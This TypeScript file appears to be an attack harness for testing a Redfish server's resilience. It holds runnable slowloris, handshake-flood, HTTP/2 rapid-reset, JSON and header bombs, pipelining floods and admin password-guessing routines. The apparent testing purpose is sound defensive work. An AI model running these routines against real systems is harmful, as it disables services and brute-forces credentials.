/** The attacks of the lane, as a program of its own: it must not slow down the administrator who is measured. */

import { connect as connectHttp2 } from 'node:http2';
import { Agent, request } from 'node:https';
import { connect, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import type { AttackName, Target } from './attack.ts';

const sessions = '/redfish/v1/SessionService/Sessions';

/** Runs until the process is ended; `address` gives the source of the next connection. */
type Attack = (target: Target, address: () => string) => void;

/** Keeps `count` runs of `one` going, each again as soon as it has ended. */
function keep(count: number, one: () => Promise<unknown>): void {
  const run = async (): Promise<void> => {
    for (;;) {
      const begun = performance.now();
      await one().catch(() => undefined);
      // A refused connection fails at once: a thousand attempts a second and client are enough.
      if (performance.now() - begun < 1) await new Promise((resolve) => setTimeout(resolve, 1));
    }
  };
  for (let n = 0; n < count; n++) void run();
}

const closed = (socket: Socket): Promise<void> =>
  new Promise((resolve) => {
    socket.on('error', () => undefined).resume();
    socket.once('close', () => resolve());
  });

const plain = ({ host, port }: Target, localAddress: string): Socket =>
  connect({ host, port, localAddress, allowHalfOpen: true });

/** A TLS connection that sends a text again and again, or once, and stays. */
const secure = (
  target: Target,
  localAddress: string,
  text: string | Buffer,
  repeat = false,
): Promise<void> => {
  const { host, port } = target;
  const socket = connectTls({ host, port, localAddress, rejectUnauthorized: false } as object, () => {
    const write = (): void => {
      while (repeat && !socket.destroyed && socket.write(text));
    };
    if (!repeat) socket.write(text);
    socket.on('drain', write);
    write();
  });
  return closed(socket);
};

const ask = (
  { host, port }: Target,
  localAddress: string,
  options: {
    method?: string;
    path: string;
    headers?: Record<string, string>;
    body?: string | Buffer;
    agent?: Agent;
  },
): Promise<{ status: number; token: string }> =>
  new Promise((resolve, reject) => {
    const { method = 'GET', path, headers = {}, body, agent } = options;
    request(
      { host, port, localAddress, method, path, headers, agent: agent ?? false, rejectUnauthorized: false },
      (answer) => {
        answer.resume();
        answer.on('end', () =>
          resolve({ status: answer.statusCode ?? 0, token: String(answer.headers['x-auth-token'] ?? '') }),
        );
        answer.on('error', reject);
      },
    )
      .on('error', reject)
      .end(body);
  });

const login = (userName: string, password: string) => ({
  method: 'POST',
  path: sessions,
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({ UserName: userName, Password: password }),
});

/** Requests of a ReadOnly account, which logs in first. */
async function reading(
  target: Target,
  address: () => string,
  count: number,
  path: () => string,
): Promise<void> {
  const from = address();
  let token = '';
  while (token === '') {
    token = await ask(target, from, login('reader', target.readerPassword)).then(
      (answer) => answer.token,
      () => '',
    );
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  const agent = new Agent({ keepAlive: true, rejectUnauthorized: false });
  keep(count, () => ask(target, from, { path: path(), headers: { 'X-Auth-Token': token }, agent }));
}

/** 255 KiB of one name twice, below names whose pointers are long. */
const duplicates = `${`{"${'~'.repeat(4347)}":`.repeat(30)}{${Array(21_759).fill('"a":1').join()}${'}'.repeat(31)}`;

let count = 0;
const attacks: Readonly<Record<AttackName, Attack>> = {
  'silent connections': (target, address) => keep(128, () => closed(plain(target, address()))),
  'half a request': (target, address) => keep(64, () => secure(target, address(), 'GET / HTTP/1.1\r\nHo')),
  handshakes: (target, address) => keep(16, () => ask(target, address(), { path: '/redfish' })),
  'duplicate names': (target, address) =>
    keep(8, () => ask(target, address(), { method: 'POST', path: sessions, body: duplicates })),
  'hostile headers': (target, address) =>
    keep(16, () =>
      ask(target, address(), {
        ...login('nobody', 'x'),
        headers: { Prefer: `a="${'\\"'.repeat(7000)}`, 'Content-Type': 'application/json' },
        body: '{}',
      }),
    ),
  'pipelined requests': (target, address) =>
    keep(8, () =>
      secure(target, address(), 'GET /redfish/v1/ HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(200), true),
    ),
  'refused writes': (target, address) =>
    keep(8, () =>
      secure(target, address(), 'DELETE /redfish/v1/x HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(200), true),
    ),
  'guesses by session': (target, address) =>
    keep(32, () => ask(target, address(), login('admin', `guess ${count++}`))),
  'guesses by Basic': (target, address) =>
    keep(32, () => {
      const authorization = `Basic ${Buffer.from(`admin:guess ${count++}`).toString('base64')}`;
      return ask(target, address(), { path: '/redfish/v1/Systems', headers: { authorization } });
    }),
  'unfinished upgrades': (target, address) =>
    keep(64, () =>
      secure(
        target,
        address(),
        'GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
      ),
    ),
  'reset redirects': ({ host, redirectPort }, address) =>
    keep(16, () => {
      const socket = plain({ host, port: redirectPort, redirectPort, readerPassword: '' }, address());
      socket.once('connect', () => {
        socket.write('CONNECT a:1 HTTP/1.1\r\nHost: a\r\n\r\n', () => socket.resetAndDestroy());
      });
      return closed(socket);
    }),
  'rapid resets': ({ host, port }, address) =>
    keep(8, async () => {
      const localAddress = address();
      const session = connectHttp2(`https://[${host}]:${port}`, {
        createConnection: () =>
          connectTls({
            host,
            port,
            localAddress,
            rejectUnauthorized: false,
            ALPNProtocols: ['h2'],
          } as object),
      });
      session.on('error', () => undefined);
      session.once('connect', () => {
        const more = (): void => {
          if (session.destroyed) return;
          for (let n = 0; n < 50; n++) {
            const stream = session.request({ ':path': '/redfish/v1/' });
            stream.on('error', () => undefined);
            // Taken back in the same turn, it would never be sent.
            setImmediate(() => stream.close(8));
          }
          setImmediate(more);
        };
        more();
      });
      await new Promise((resolve) => session.once('close', resolve));
    }),
  'costly filters of a reader': (target, address) =>
    void reading(target, address, 16, () => {
      const filter = `contains(Message,'${count++}') or Severity eq 'OK' and not (MessageId eq '${count}')`;
      return `/redfish/v1/Systems/system/LogServices/EventLog/Entries?$filter=${encodeURIComponent(filter)}`;
    }),
  'whole trees of a reader': (target, address) =>
    void reading(target, address, 16, () => '/redfish/v1/?$expand=*($levels=6)'),
};

const [name = '', target = '', addresses = ''] = process.argv.slice(2);
const sources = JSON.parse(addresses) as readonly string[];
let next = 0;
attacks[name as AttackName](JSON.parse(target) as Target, () => sources[next++ % sources.length] ?? '');
